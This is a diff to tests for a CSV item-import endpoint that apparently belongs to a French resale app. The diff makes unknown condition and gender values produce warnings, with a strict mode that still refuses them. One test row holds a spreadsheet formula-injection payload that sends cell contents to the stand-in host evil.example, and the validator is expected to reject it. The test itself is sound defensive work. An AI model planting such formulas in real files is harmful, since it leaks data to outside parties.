@@ -49,7 +49,7 @@ describe('POST /import/csv', () => {
     const csv = 'titre;prix;état;description\n'
       + 'Bon article;10;bon état;ok\n'
       + 'Prix faux;abc;bon état;x\n'
-      + 'Etat inconnu;5;comme neuf;x\n'
+      + 'Etat inconnu;5;abîmé par endroits;x\n'
       + ';7;bon état;sans titre\n'
       + '"=HYPERLINK(""http://evil.example/?x=""&A1;""clic"")";9;bon état;x\n'
       + 'Trop de colonnes;4;bon état;x;en trop\n'
@@ -61,41 +61,47 @@ describe('POST /import/csv', () => {
     expect(body.details).toMatchObject({ imported: 0, skipped: 7, total_rows: 7 });
     expect(body.details.errors.map((e: { line: number; field: string; code: string }) => [e.line, e.field, e.code])).toEqual([
       [3, 'price', 'invalid_price'],
-      [4, 'condition', 'unknown_condition'],
       [5, 'title', 'missing_title'],
       [6, 'title', 'formula_in_cell'],
       [7, null, 'column_count'],
       [8, 'price', 'price_out_of_range'],
     ]);
-    expect(body.details.errors[1].message).toContain('Très bon état');
+    // An unknown condition leaves the field out with a warning; a strict import makes it an error.
+    expect(body.details.warnings).toEqual(expect.arrayContaining([expect.objectContaining({ line: 4, field: 'condition', code: 'unknown_condition' })]));
+    const strict = (await importCsv(t, csv, '?strict=true&dry_run=true')).json();
+    expect(strict.errors.find((e: { line: number }) => e.line === 4)).toMatchObject({ field: 'condition', code: 'unknown_condition', params: { value: 'abîmé par endroits' } });
+    expect(strict.errors.find((e: { line: number }) => e.line === 4).message).toContain('Très bon état');
     expect(await all(t)).toHaveLength(0);
 
     const dry = await importCsv(t, csv, '?dry_run=true&mode=partial');
     expect(dry.statusCode).toBe(200);
-    expect(dry.json()).toMatchObject({ dry_run: true, imported: 1, skipped: 6 });
+    expect(dry.json()).toMatchObject({ dry_run: true, imported: 2, skipped: 5 });
     expect(await all(t)).toHaveLength(0);
 
     const partial = await importCsv(t, csv, '?mode=partial');
     expect(partial.statusCode).toBe(200);
-    expect(partial.json()).toMatchObject({ imported: 1, created: 1, skipped: 6 });
-    expect((await all(t)).map((i) => i.title)).toEqual(['Bon article']);
+    expect(partial.json()).toMatchObject({ imported: 2, created: 2, skipped: 5 });
+    expect((await all(t)).map((i) => i.title)).toEqual(['Bon article', 'Etat inconnu']);
   });
 
-  it('reads who an item is for from a "genre" column, refuses a word it does not know, and exports it back', async () => {
+  it('reads who an item is for from a "genre" column, leaves out a word it does not know (refused when strict), and exports it back', async () => {
     t = await createTestApp({ PRICE_DROP_CRON: 'off' });
     const csv = 'titre;prix;genre\nSweat Nike;20;Homme\nRobe Zara;15;femme\nPull Petit Bateau;8;Enfant\nJean Levis;25;\n';
     expect((await importCsv(t, csv)).json()).toMatchObject({ imported: 4, errors: [] });
     expect(Object.fromEntries((await all(t)).map((i) => [i.title, i.gender]))).toEqual({ 'Sweat Nike': 'men', 'Robe Zara': 'women', 'Pull Petit Bateau': 'kids', 'Jean Levis': null });
-    const exported = (await t.app.inject({ method: 'GET', url: '/export/csv' })).body;
+    const exported = (await t.app.inject({ method: 'GET', url: '/export/csv?lang=en' })).body;
     const [header, ...rows] = exported.replace(/^\uFEFF/, '').trim().split(/\r?\n/);
     const at = header.split(/[;,]/).indexOf('gender');
     expect(at).toBeGreaterThan(0);
     expect(rows.map((r) => r.split(/[;,]/)[at]).sort()).toEqual(['', 'kids', 'men', 'women']);
 
-    const bad = await importCsv(t, 'titre;prix;sexe\nSweat Adidas;20;unisexe\n');
+    const bad = await importCsv(t, 'titre;prix;sexe\nSweat Adidas;20;unisexe\n', '?strict=true');
     expect(bad.statusCode).toBe(422);
     expect(bad.json().error.details.errors).toEqual([expect.objectContaining({ line: 2, field: 'gender', code: 'unknown_gender' })]);
     expect(await all(t)).toHaveLength(4);
+    const lenient = (await importCsv(t, 'titre;prix;sexe\nSweat Adidas;20;unisexe\n')).json();
+    expect(lenient).toMatchObject({ created: 1, errors: [], warnings: [expect.objectContaining({ line: 2, field: 'gender', code: 'unknown_gender' })] });
+    expect((await all(t)).find((i) => i.title === 'Sweat Adidas')?.gender).toBeNull();
   });
 
   it('refuses unreadable files with a precise 4xx and writes nothing', async () => {
